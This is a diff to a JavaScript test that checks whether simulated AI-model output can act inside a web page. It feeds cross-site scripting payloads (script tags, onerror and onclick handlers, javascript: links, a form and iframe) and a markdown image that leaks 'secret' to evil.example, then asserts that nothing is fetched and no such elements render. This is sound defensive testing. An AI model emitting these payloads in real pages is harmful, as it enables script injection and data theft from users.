@@ -471,11 +471,14 @@ test("what_a_model_writes_cannot_act_in_the_page", async () => {
   const call = await fake.call();
   call.say("<img src=x onerror=alert(1)> ![q](https://evil.example/?q=secret) <script>alert(2)</script>\n\n");
   call.say('<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input></form> ');
-  call.say("[a](javascript:alert(3)) <a href=https://evil.example/ target=_self style=position:fixed>b</a> end");
+  call.say("[a](javascript:alert(3)) [b](https://evil.example/) <b style=position:fixed onclick=alert(4)>end</b>");
   call.finish();
   await tab.finished();
   assert.equal(fetched, 0);
-  assert.equal(await tab.text.locator("img, script, iframe, form, input, [style], [href^=javascript]").count(), 1);
+  assert.equal(
+    await tab.text.locator("img, script, iframe, form, input, [style], [onclick], [href^=javascript]").count(),
+    0,
+  );
   assert.equal(await tab.text.getByRole("link", { name: "b" }).getAttribute("rel"), "noopener noreferrer");
-  await reader.leave({ away: true });
+  await reader.leave();
 });
